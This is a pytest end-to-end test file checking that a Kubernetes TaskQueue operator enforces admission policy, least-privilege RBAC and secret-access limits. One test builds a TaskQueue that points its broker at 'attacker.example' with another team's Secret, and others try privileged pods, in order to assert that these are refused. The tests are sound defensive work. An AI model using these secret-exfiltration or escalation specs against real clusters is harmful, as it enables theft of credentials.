"""A TaskQueue never does more than its author may: names, ownership, privileges, Secrets,
and the operator's own rights, on a real API server with the shipped admission policy."""

from __future__ import annotations

import json
import subprocess
import time

import pytest
from chart import CHART, KUBE_VERSION, helm_binary
from kube import wait_for
from pod_policy_cases import FORBIDDEN, SIDECAR
from stalk_devenv.stack import (
    ADMISSION_POLICY,
    TASKQUEUE_ROLES,
    TEST_PREFIX,
    prefixed,
    wait_for_admission_policy,
)
from stalk_operator.actuation import REPLICAS_MANAGER, TEMPLATE_MANAGER
from taskqueues import taskqueue

pytestmark = pytest.mark.e2e

POLICY = f"{TEST_PREFIX}stalk-taskqueues"
"""The shipped policy, as the e2e fixtures apply it (under the prefix of shipped objects)."""


def ready_condition(cluster, namespace: str, name: str) -> dict | None:
    status = cluster.get_json("tq", name, namespace=namespace).get("status") or {}
    return next((c for c in status.get("conditions") or [] if c["type"] == "Ready"), None)


def warnings(cluster, namespace: str, reason: str) -> list[str]:
    listing = cluster.get_json(
        "events",
        "--field-selector",
        f"involvedObject.kind=TaskQueue,reason={reason}",
        namespace=namespace,
    )
    return [e["message"] for e in listing["items"]]


def restore_policy(cluster) -> None:
    cluster.apply(prefixed(ADMISSION_POLICY))
    wait_for_admission_policy(cluster.refusal)


def test_a_63_character_name_and_odd_queue_names_work_end_to_end(
    cluster, namespace, stalk_operator, redis_db
):
    stalk_operator()
    name = "q" * 63
    queues = ["emails.v2", "jobs:high", "team@eu"]
    cluster.apply(
        taskqueue(name, queues, scaling={"minReplicas": 0, "maxReplicas": 4}),
        namespace=namespace,
    )
    wait_for(
        lambda: (
            cluster.kubectl("get", "deployment", name, namespace=namespace, check=False).returncode
            == 0
        ),
        15,
        "the Deployment of a 63-character TaskQueue",
    )
    client = redis_db.client()
    for queue in queues:
        client.lpush(queue, *[f"message-{i}" for i in range(3)])
    wait_for(
        lambda: cluster.get_json("deployment", name, namespace=namespace)["spec"]["replicas"] == 4,
        15,
        "scaled on 9 messages over queues named with dots, colons and @",
    )
    status = cluster.get_json("tq", name, namespace=namespace)["status"]
    assert status["backlogByQueue"] == {queue: 3 for queue in queues}


def test_a_foreign_deployment_is_never_written_and_its_removal_heals(
    cluster, namespace, stalk_operator
):
    """Someone else's Deployment under the TaskQueue's name: a condition, one Event, no
    write through six retries; deleting it lets the TaskQueue take the name by itself."""
    cluster.kubectl(
        "create",
        "deployment",
        "emails",
        "--image=team/mailer:3",
        "--replicas=2",
        namespace=namespace,
    )
    before = cluster.get_json("deployment", "emails", namespace=namespace)
    operator = stalk_operator()
    cluster.apply(taskqueue("emails", ["email"]), namespace=namespace)
    wait_for(
        lambda: (
            (ready_condition(cluster, namespace, "emails") or {}).get("reason")
            == "DeploymentNotOwned"
        ),
        15,
        "Ready=False, DeploymentNotOwned",
    )
    assert ready_condition(cluster, namespace, "emails")["status"] == "False"
    wait_for(lambda: warnings(cluster, namespace, "DeploymentNotOwned"), 10, "a Warning Event")
    # The loop retries after 0.5, 1, 2 and 4 s, then every 5 s: six tries in 20 s, the
    # ceiling reached and held. None may write, log or post again.
    time.sleep(20)
    after = cluster.get_json("deployment", "emails", "--show-managed-fields", namespace=namespace)
    # Not the resourceVersion: the Deployment controller writes the status meanwhile.
    writers = {entry["manager"] for entry in after["metadata"]["managedFields"]}
    assert not writers & {REPLICAS_MANAGER, TEMPLATE_MANAGER}, writers
    assert after["metadata"]["generation"] == before["metadata"]["generation"]
    assert (
        after["spec"] == before["spec"]
        and after["metadata"]["labels"] == before["metadata"]["labels"]
    )
    assert len(warnings(cluster, namespace, "DeploymentNotOwned")) == 1, "said once"
    assert operator.log().count("is not Stalk's") <= 1, "logged once, not per retry"

    cluster.kubectl("delete", "deployment", "emails", "--wait=true", namespace=namespace)
    wait_for(
        lambda: any(
            ref["kind"] == "TaskQueue"
            for ref in (
                cluster.get_json("deployment", "emails", namespace=namespace)["metadata"].get(
                    "ownerReferences"
                )
                or []
            )
        ),
        20,
        "the TaskQueue's own Deployment once the foreign one is gone",
    )


def test_with_the_admission_policy_removed_the_operator_still_refuses_forbidden_pods(
    cluster, namespace, stalk_operator
):
    stalk_operator()
    cluster.kubectl("delete", "validatingadmissionpolicybinding", POLICY)
    try:
        _, worker, messages = FORBIDDEN[-1]  # a privileged sidecar with a host port
        wait_for(
            lambda: (
                cluster.apply(
                    taskqueue("escalate", ["q"], worker=worker), namespace=namespace, check=False
                ).returncode
                == 0
            ),
            15,
            "the API server to stop enforcing the policy",
        )
        wait_for(
            lambda: (
                (ready_condition(cluster, namespace, "escalate") or {}).get("reason")
                == "PodNotAllowed"
            ),
            15,
            "Ready=False, PodNotAllowed",
        )
        message = ready_condition(cluster, namespace, "escalate")["message"]
        assert all(m in message for m in messages), message
        assert warnings(cluster, namespace, "PodNotAllowed")
        assert (
            cluster.kubectl(
                "get", "deployment", "escalate", namespace=namespace, check=False
            ).returncode
            != 0
        ), "no Deployment was built"
    finally:
        restore_policy(cluster)


def test_a_widened_namespace_gets_exactly_what_it_was_given(cluster, namespace, stalk_operator):
    """The chart's taskQueuePolicy.namespaces, rendered into both enforcers."""
    widening = {namespace: {"allow": ["ExtraContainers"]}}
    rendered = subprocess.run(
        [
            helm_binary(),
            "template",
            "stalk",
            str(CHART),
            f"--kube-version={KUBE_VERSION}",
            "--set-json",
            f"taskQueuePolicy.namespaces={json.dumps(widening)}",
            "--set",
            f"fullnameOverride={TEST_PREFIX}stalk",
            "--show-only",
            "templates/admission/taskqueue-policy.yaml",
        ],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    cluster.apply(rendered)
    try:
        stalk_operator(STALK_POD_POLICY=json.dumps(widening))
        sidecar = {"podTemplate": {"containers": [SIDECAR]}}
        wait_for(
            lambda: (
                cluster.apply(
                    taskqueue("sidecar", ["q"], worker=sidecar), namespace=namespace, check=False
                ).returncode
                == 0
            ),
            15,
            "a TaskQueue with a sidecar accepted in the widened namespace",
        )
        wait_for(
            lambda: (
                cluster.kubectl(
                    "get", "deployment", "sidecar", namespace=namespace, check=False
                ).returncode
                == 0
            ),
            15,
            "the operator building the pod with its sidecar",
        )
        containers = cluster.get_json("deployment", "sidecar", namespace=namespace)["spec"][
            "template"
        ]["spec"]["containers"]
        assert [c["name"] for c in containers] == ["worker", "side"]
        privileged = {
            "podTemplate": {"containers": [{**SIDECAR, "securityContext": {"privileged": True}}]}
        }
        refused = cluster.apply(
            taskqueue("privileged", ["q"], worker=privileged), namespace=namespace, check=False
        )
        assert "needs the Privileged allowance" in refused.stderr, "only what was given"
        cluster.kubectl("create", "namespace", f"{namespace}-other")
        elsewhere = cluster.apply(
            taskqueue("sidecar", ["q"], worker=sidecar),
            namespace=f"{namespace}-other",
            check=False,
        )
        assert "needs the ExtraContainers allowance" in elsewhere.stderr, "only where given"
    finally:
        cluster.kubectl("delete", "namespace", f"{namespace}-other", "--wait=false", check=False)
        restore_policy(cluster)


def test_an_author_may_name_only_secrets_they_may_read(cluster, stalk_crds, namespace):
    cluster.create_secret(namespace, "team-redis", password="p1")
    cluster.create_secret(namespace, "payments-db", password="p2")
    cluster.kubectl(
        "create",
        "role",
        "taskqueue-author",
        "--verb=get,list,watch,create,update,patch",
        "--resource=taskqueues.stalk.dev",
        namespace=namespace,
    )
    cluster.kubectl(
        "create",
        "role",
        "read-team-redis",
        "--verb=get",
        "--resource=secrets",
        "--resource-name=team-redis",
        namespace=namespace,
    )
    for role in ("taskqueue-author", "read-team-redis"):
        cluster.kubectl(
            "create", "rolebinding", role, f"--role={role}", "--user=alice", namespace=namespace
        )
    as_alice = ("--as=alice",)

    def apply_as_alice(name: str, spec: dict) -> subprocess.CompletedProcess[str]:
        body = {
            "apiVersion": "stalk.dev/v1alpha1",
            "kind": "TaskQueue",
            "metadata": {"name": name},
            "spec": {"queues": ["q"], **spec},
        }
        return cluster.kubectl(
            *as_alice,
            "apply",
            "-f",
            "-",
            input_text=json.dumps(body),
            namespace=namespace,
            check=False,
        )

    stolen = apply_as_alice(
        "exfiltrate",
        {
            "broker": {
                "url": "redis://attacker.example:6379/0",
                "passwordSecretRef": {"name": "payments-db", "key": "password"},
            }
        },
    )
    assert stolen.returncode != 0
    assert "references Secret payments-db, which you may not get" in stolen.stderr
    through_env = apply_as_alice(
        "env",
        {
            "worker": {
                "env": [
                    {
                        "name": "DB",
                        "valueFrom": {"secretKeyRef": {"name": "payments-db", "key": "password"}},
                    }
                ]
            }
        },
    )
    assert "references Secret payments-db, which you may not get" in through_env.stderr
    through_volume = apply_as_alice(
        "volume",
        {
            "worker": {
                "podTemplate": {
                    "volumes": [
                        {
                            "name": "s",
                            "projected": {"sources": [{"secret": {"name": "payments-db"}}]},
                        }
                    ]
                }
            }
        },
    )
    assert "references Secret payments-db, which you may not get" in through_volume.stderr
    # The CA key is mounted into the worker pods: any key of any Secret would be.
    through_ca = apply_as_alice(
        "ca",
        {
            "broker": {
                "url": "rediss://team-redis:6379/0",
                "tls": {"caSecretRef": {"name": "payments-db", "key": "password"}},
            }
        },
    )
    assert "references Secret payments-db, which you may not get" in through_ca.stderr
    own = apply_as_alice(
        "mine",
        {
            "broker": {
                "url": "redis://team-redis:6379/0",
                "passwordSecretRef": {"name": "team-redis", "key": "password"},
            }
        },
    )
    assert own.returncode == 0, own.stderr
    plain = apply_as_alice("plain", {})
    assert plain.returncode == 0, plain.stderr


OPERATOR_RIGHTS = [
    # (verb, resource, allowed): what the operator's ServiceAccount may do in a TaskQueue's
    # namespace, as the shipped ClusterRoles grant it.
    ("get", "taskqueues.stalk.dev", True),
    ("list", "taskqueues.stalk.dev", True),
    ("watch", "taskqueues.stalk.dev", True),
    ("patch", "taskqueues.stalk.dev/status", True),
    ("patch", "taskqueues.stalk.dev", False),  # only event handlers: kopf writes nothing there
    ("create", "taskqueues.stalk.dev", False),
    ("update", "taskqueues.stalk.dev", False),
    ("delete", "taskqueues.stalk.dev", False),
    ("get", "deployments.apps", True),
    ("list", "deployments.apps", True),
    ("watch", "deployments.apps", True),
    ("create", "deployments.apps", True),
    ("patch", "deployments.apps", True),
    ("update", "deployments.apps", False),
    ("delete", "deployments.apps", False),
    ("list", "pods", True),
    ("patch", "pods", True),
    ("get", "pods", False),
    ("create", "pods", False),
    ("delete", "pods", False),
    ("create", "pods/exec", False),
    ("get", "secrets", True),
    ("list", "secrets", False),
    ("watch", "secrets", False),
    ("create", "secrets", False),
    ("update", "secrets", False),
    ("delete", "secrets", False),
    ("get", "configmaps", False),
    ("create", "events", True),
    ("patch", "events", True),
    ("delete", "events", False),
    ("create", "serviceaccounts/token", False),
    ("create", "rolebindings.rbac.authorization.k8s.io", False),
    ("create", "validatingadmissionpolicybindings.admissionregistration.k8s.io", False),
    ("delete", "validatingadmissionpolicybindings.admissionregistration.k8s.io", False),
    ("impersonate", "serviceaccounts", False),
]


@pytest.fixture
def operator_account(local_cluster, cluster, namespace):
    from stalk_devenv.stack import grant_operator, revoke_operator

    grant_operator(local_cluster, namespace)
    yield f"system:serviceaccount:{namespace}:stalk-operator"
    revoke_operator(local_cluster, namespace)


def test_the_operator_may_do_exactly_what_it_needs(cluster, namespace, operator_account, capsys):
    def allowed(verb: str, resource: str, *where: str) -> bool:
        # `can-i patch taskqueues/status` would ask about a TaskQueue named "status".
        kind, _, subresource = resource.partition("/")
        sub = (f"--subresource={subresource}",) if subresource else ()
        answer = cluster.kubectl(
            "auth", "can-i", verb, kind, *sub, f"--as={operator_account}", *where, check=False
        )
        return answer.stdout.strip() == "yes"

    matrix = [
        (verb, resource, allowed(verb, resource, f"--namespace={namespace}"), expected)
        for verb, resource, expected in OPERATOR_RIGHTS
    ]
    cluster_wide = [
        ("create", "clusterrolebindings.rbac.authorization.k8s.io", False),
        ("list", "secrets", False),  # in every namespace
        ("update", "customresourcedefinitions.apiextensions.k8s.io", False),
        ("delete", "namespaces", False),
        ("get", "nodes", False),
    ]
    matrix += [
        (verb, f"{resource} (cluster)", allowed(verb, resource, "--all-namespaces"), expected)
        for verb, resource, expected in cluster_wide
    ]
    with capsys.disabled():
        print("\nRBAC of the operator's ServiceAccount (verb x resource):")
        for verb, resource, found, _ in matrix:
            print(f"  {verb:12} {resource:68} {'allowed' if found else 'refused'}")
    wrong = [(v, r, f) for v, r, f, expected in matrix if f != expected]
    assert not wrong, f"rights differ from least privilege: {wrong}"


def test_taskqueue_roles_aggregate_into_view_and_edit(cluster, stalk_crds, namespace):
    def can(user: str, verb: str) -> bool:
        answer = cluster.kubectl(
            "auth",
            "can-i",
            verb,
            "taskqueues.stalk.dev",
            f"--as={user}",
            f"--namespace={namespace}",
            check=False,
        )
        return answer.stdout.strip() == "yes"

    for user, role in (("viewer", "view"), ("editor", "edit")):
        cluster.kubectl(
            "create",
            "rolebinding",
            user,
            f"--clusterrole={role}",
            f"--user={user}",
            namespace=namespace,
        )
    assert not can("editor", "create"), "the built-in roles know nothing of TaskQueues"
    roles = prefixed(TASKQUEUE_ROLES)
    cluster.apply(roles)
    try:
        wait_for(lambda: can("editor", "create"), 10, "the editor role aggregated into edit")
        assert can("viewer", "list") and not can("viewer", "create")
        assert can("editor", "delete")
    finally:
        for role in roles:
            cluster.kubectl("delete", "clusterrole", role["metadata"]["name"], check=False)


def test_admission_lets_the_operator_write_only_the_workers_it_manages(
    cluster, stalk_crds, namespace, operator_account
):
    """RBAC lets the operator create and patch any Deployment in a namespace it watches;
    the chart's operator-scope policy narrows that to its own worker Deployments (and
    their pods): what a stolen operator token could do to other teams' workloads."""
    from chart import render
    from stalk_operator.workload import build_deployment
    from taskqueues import parsed

    docs = render(
        helm_binary(),
        "--set", "fullnameOverride=stalk",
        "--show-only", "templates/admission/operator-scope.yaml",
        namespace=namespace,
    )  # fmt: skip
    name = f"{TEST_PREFIX}{namespace}-operator-scope"  # one per test: cluster-scoped
    docs[0]["metadata"]["name"] = docs[1]["metadata"]["name"] = name
    docs[1]["spec"]["policyName"] = name
    cluster.apply(docs)
    try:
        cluster.kubectl(
            "create", "deployment", "storefront", "--image=shop:1", namespace=namespace
        )  # another team's workload

        def as_operator(*args: str, manifest: str | None = None):
            return cluster.kubectl(
                *args, f"--as={operator_account}", input_text=manifest, check=False,
                namespace=namespace,
            )  # fmt: skip

        def refused() -> str:
            tried = as_operator("label", "deployment", "storefront", "x=y", "--dry-run=server")
            return tried.stderr

        wait_for(lambda: "may only write worker deployments" in refused(), 30, "the policy")
        assert "deployments " + f"{namespace}/storefront is not one" in refused()

        cluster.apply(taskqueue("mail", ["mail"]), namespace=namespace)
        stored = cluster.get_json("tq", "mail", namespace=namespace)
        own = build_deployment(parsed(stored))
        applied = as_operator(
            "apply", "--server-side", "--field-manager=stalk-operator", "-f", "-",
            manifest=json.dumps(own),
        )  # fmt: skip
        assert applied.returncode == 0, applied.stderr
        replicas = {
            "apiVersion": "apps/v1",
            "kind": "Deployment",
            "metadata": {"name": own["metadata"]["name"], "namespace": namespace},
            "spec": {"replicas": 2},
        }
        scaled = as_operator(
            "apply", "--server-side", f"--field-manager={REPLICAS_MANAGER}",
            "--force-conflicts", "-f", "-", manifest=json.dumps(replicas),
        )  # fmt: skip
        assert scaled.returncode == 0, scaled.stderr
        disowned = as_operator(
            "label", "deployment", own["metadata"]["name"],
            "app.kubernetes.io/managed-by=someone-else", "--overwrite",
        )  # fmt: skip
        assert "may only write worker deployments" in disowned.stderr, "nor give one away"
    finally:
        cluster.kubectl("delete", "validatingadmissionpolicybinding", name, check=False)
        cluster.kubectl("delete", "validatingadmissionpolicy", name, check=False)
